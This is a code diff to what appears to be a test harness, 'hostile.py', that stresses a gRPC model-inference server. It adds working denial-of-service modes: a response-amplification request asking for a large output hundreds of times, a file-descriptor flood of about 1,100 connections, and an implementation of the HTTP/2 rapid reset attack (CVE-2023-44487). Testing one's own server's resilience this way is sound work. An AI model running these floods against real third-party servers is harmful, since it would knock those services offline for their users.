@@ -5,6 +5,9 @@
   python hostile.py garbage --port P --metrics_port M [--connections N] [--seed S]
   python hostile.py limit   --port P --max_message_bytes B
   python hostile.py slow_http --port M [--connections N] [--hold S]
+  python hostile.py outputs --port P [--calls N] [--connections C] [--copies K] [--lk L]
+  python hostile.py fd_flood --port P [--connections N] [--hold S] [--recover_within S]
+  python hostile.py rapid_reset --port P [--streams N] [--seconds S] [--connections C]
 
 Each prints one line of JSON on stdout (what happened, per connection or per
 call) and exits 0 when it ran; what passes is for the caller to decide.
@@ -26,6 +29,20 @@ call) and exits 0 when it ran; what passes is for the caller to decide.
 - slow_http: N connections to the metrics port, each sending an HTTP
   request whose headers never end: a header line every second for S seconds
   (a slowloris). Notes which the server closed, and when.
+- outputs: N KServe ModelInfer calls to dot_product_attention over C
+  connections (queries, keys and values 1xLx1: a 12 KB request for L=1024)
+  each listing the output attention_weights (1xLxL, 4 MiB) K times; with
+  K=1 it is the largest legitimate answer of that request. Reports each
+  call's grpc-status.
+- fd_flood: opens up to N raw TCP connections to the gRPC port as fast as it
+  can (raising its own fd limit first), holds them S seconds, closes them,
+  then checks every 50 ms for up to R seconds whether a new connection is
+  served (the server's HTTP/2 SETTINGS frame arrives within 0.5 s); reports
+  how many it opened and when service came back after the flood ended.
+- rapid_reset: HTTP/2 rapid reset (CVE-2023-44487): on C connections, opens
+  streams (HEADERS, any method) and resets each at once (RST_STREAM CANCEL),
+  N streams in all or for S seconds, reading and discarding what the server
+  sends; reports streams sent, their rate, and how each connection ended.
 - limit: one call whose gRPC message is exactly B bytes and one of B + 1
   bytes (a valid small AttentionRequest padded with an unknown field, which
   protobuf parsers keep and ignore); reports each call's grpc-status.
@@ -122,6 +139,26 @@ def attention_request(b, lq, lk, d, return_weights, rng, pad_to=None):
     return message
 
 
+MODEL_INFER_METHOD = "/inference.GRPCInferenceService/ModelInfer"
+
+
+def model_infer_request(model, inputs, outputs):
+    """ModelInferRequest: model_name (1), inputs (5: name 1, datatype 2,
+    shape 3 packed), outputs (6: name 1), raw_input_contents (7).
+    `inputs`: (name, datatype, shape, raw bytes)."""
+    message = field_bytes(1, model.encode())
+    for name, datatype, shape, _ in inputs:
+        dims = b"".join(varint(d) for d in shape)
+        message += field_bytes(5, field_bytes(1, name.encode()) +
+                               field_bytes(2, datatype.encode()) +
+                               field_bytes(3, dims))
+    for name in outputs:
+        message += field_bytes(6, field_bytes(1, name.encode()))
+    for _, _, _, raw in inputs:
+        message += field_bytes(7, raw)
+    return message
+
+
 def grpc_frame(message):
     return struct.pack(">BI", 0, len(message)) + message
 
@@ -155,8 +192,9 @@ def request_headers(host, port, method, timeout_s=None):
 
 
 class Call:
-    def __init__(self, index, body):
+    def __init__(self, index, body, method=ATTENTION_METHOD):
         self.index = index
+        self.method = method
         self.body = body          # the framed request, still to send
         self.sent = 0
         self.stream_id = None
@@ -219,7 +257,7 @@ class Client:
             call = self.waiting.pop(0)
             stream_id = self.conn.get_next_available_stream_id()
             self.conn.send_headers(stream_id, request_headers(
-                self.host, self.port, ATTENTION_METHOD))
+                self.host, self.port, call.method))
             call.stream_id = stream_id
             call.opened_at = time.monotonic()
             self.calls[stream_id] = call
@@ -575,6 +613,169 @@ def cmd_limit(args):
     client.close()
 
 
+def cmd_outputs(args):
+    rng = random.Random(args.seed)
+    shape = (1, args.lk, 1)
+    inputs = [(name, "FP32", shape, floats(args.lk, rng))
+              for name in ("queries", "keys", "values")]
+    message = model_infer_request("dot_product_attention", inputs,
+                                  ["attention_weights"] * args.copies)
+    body = grpc_frame(message)
+    clients = [Client(args.host, args.port) for _ in range(args.connections)]
+    calls = [Call(i, body, MODEL_INFER_METHOD) for i in range(args.calls)]
+    for i, call in enumerate(calls):
+        clients[i % len(clients)].add(call)
+    start = time.monotonic()
+    deadline = start + args.hold
+    while time.monotonic() < deadline and not all(c.done() for c in clients):
+        for client in clients:
+            client.step(0.01)
+    messages = sorted({c.message[:160] for c in calls if c.status not in (None, "OK")})
+    print(json.dumps({
+        "mode": "outputs", "copies": args.copies, "calls": args.calls,
+        "request_bytes": len(message),
+        "response_bytes_asked": args.copies * 4 * args.lk * args.lk,
+        "outcomes": summarize(calls), "messages": messages[:3],
+        "largest_response_bytes": max((c.data_bytes for c in calls), default=0),
+        "s": round(time.monotonic() - start, 2)}))
+    for client in clients:
+        client.close()
+
+
+def _served(host, port, timeout):
+    """Whether a new connection gets the server's HTTP/2 SETTINGS frame."""
+    try:
+        sock = socket.create_connection((host, port), timeout=timeout)
+    except OSError:
+        return False
+    try:
+        sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" +
+                     b"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
+        sock.settimeout(timeout)
+        data = sock.recv(9)
+        return len(data) >= 4 and data[3] == 0x04  # a SETTINGS frame
+    except OSError:
+        return False
+    finally:
+        sock.close()
+
+
+def cmd_fd_flood(args):
+    import resource
+    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
+    want = min(hard, args.connections + 64) if hard != resource.RLIM_INFINITY \
+        else args.connections + 64
+    if soft < want:
+        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
+    served_before = _served(args.host, args.port, 2.0)
+    socks, failures = [], {}
+    start = time.monotonic()
+    for _ in range(args.connections):
+        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        sock.setblocking(False)
+        error = sock.connect_ex((args.host, args.port))
+        if error not in (0, 115):  # EINPROGRESS
+            name = os.strerror(error)
+            failures[name] = failures.get(name, 0) + 1
+            sock.close()
+            continue
+        socks.append(sock)
+    opened_in = time.monotonic() - start
+    # A new client during the flood, for the record.
+    served_during = _served(args.host, args.port, 1.0)
+    time.sleep(args.hold)
+    # How many the server still holds (it may close some, e.g. at its cap).
+    poller = select.poll()  # select() stops at fd 1024
+    for sock in socks:
+        poller.register(sock, select.POLLIN)
+    readable = {fd for fd, _ in poller.poll(0)}
+    closed_by_server = 0
+    for sock in (s for s in socks if s.fileno() in readable):
+        try:
+            while True:
+                data = sock.recv(1 << 16)
+                if not data:
+                    closed_by_server += 1
+                    break
+        except OSError:
+            pass
+    for sock in socks:
+        sock.close()
+    ended = time.monotonic()
+    recovered_s = None
+    while time.monotonic() - ended < args.recover_within:
+        if _served(args.host, args.port, 0.5):
+            recovered_s = round(time.monotonic() - ended, 3)
+            break
+        time.sleep(0.05)
+    print(json.dumps({
+        "mode": "fd_flood", "asked": args.connections, "opened": len(socks),
+        "failed": failures, "opened_in_s": round(opened_in, 2),
+        "served_before": served_before, "served_during": served_during,
+        "closed_by_server_while_held": closed_by_server,
+        "served_again_after_s": recovered_s,
+        "recover_within_s": args.recover_within}))
+
+
+def cmd_rapid_reset(args):
+    headers = request_headers(args.host, args.port, "/no.such.Service/Reset")
+    conns = []
+    for _ in range(args.connections):
+        try:
+            sock, conn = h2_connect(args.host, args.port)
+            conns.append({"sock": sock, "conn": conn, "closed": None, "sent": 0})
+        except OSError as error:
+            conns.append({"sock": None, "conn": None, "closed": str(error), "sent": 0})
+    start = time.monotonic()
+    sent = 0
+    while sent < args.streams and time.monotonic() - start < args.seconds:
+        live = [c for c in conns if c["closed"] is None]
+        if not live:
+            break
+        for c in live:
+            conn = c["conn"]
+            try:
+                for _ in range(args.batch):
+                    stream_id = conn.get_next_available_stream_id()
+                    conn.send_headers(stream_id, headers)
+                    conn.reset_stream(stream_id)
+                c["sent"] += args.batch
+                sent += args.batch
+                data = conn.data_to_send()
+                c["sock"].setblocking(True)
+                c["sock"].settimeout(5)
+                c["sock"].sendall(data)
+                c["sock"].setblocking(False)
+                while True:
+                    try:
+                        got = c["sock"].recv(1 << 16)
+                    except BlockingIOError:
+                        break
+                    if not got:
+                        c["closed"] = "EOF"
+                        break
+                    try:
+                        for event in conn.receive_data(got):
+                            if isinstance(event, h2.events.ConnectionTerminated):
+                                c["closed"] = "GOAWAY %s" % getattr(
+                                    event.error_code, "name", event.error_code)
+                    except h2.exceptions.ProtocolError as error:
+                        c["closed"] = "protocol error: %s" % error
+                        break
+            except (OSError, h2.exceptions.H2Error) as error:
+                c["closed"] = "%s: %s" % (type(error).__name__, error)
+    took = time.monotonic() - start
+    ends = {}
+    for c in conns:
+        key = c["closed"] or "open"
+        ends[key] = ends.get(key, 0) + 1
+        if c["sock"] is not None:
+            c["sock"].close()
+    print(json.dumps({"mode": "rapid_reset", "streams": sent, "s": round(took, 2),
+                      "streams_per_s": round(sent / took) if took else None,
+                      "connections": ends}))
+
+
 def main(argv):
     parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
     sub = parser.add_subparsers(dest="command", required=True)
@@ -614,6 +815,27 @@ def main(argv):
     p.add_argument("--max_message_bytes", type=int, required=True)
     p.add_argument("--hold", type=float, default=30.0)
     p.set_defaults(run=cmd_limit)
+    p = sub.add_parser("outputs")
+    common(p)
+    p.add_argument("--calls", type=int, default=16)
+    p.add_argument("--connections", type=int, default=4)
+    p.add_argument("--copies", type=int, default=500)
+    p.add_argument("--lk", type=int, default=1024)
+    p.add_argument("--hold", type=float, default=60.0)
+    p.set_defaults(run=cmd_outputs)
+    p = sub.add_parser("fd_flood")
+    common(p)
+    p.add_argument("--connections", type=int, default=1100)
+    p.add_argument("--hold", type=float, default=2.0)
+    p.add_argument("--recover_within", type=float, default=5.0)
+    p.set_defaults(run=cmd_fd_flood)
+    p = sub.add_parser("rapid_reset")
+    common(p)
+    p.add_argument("--streams", type=int, default=100000)
+    p.add_argument("--seconds", type=float, default=12.0)
+    p.add_argument("--connections", type=int, default=1)
+    p.add_argument("--batch", type=int, default=100)
+    p.set_defaults(run=cmd_rapid_reset)
     args = parser.parse_args(argv)
     args.run(args)
     return 0
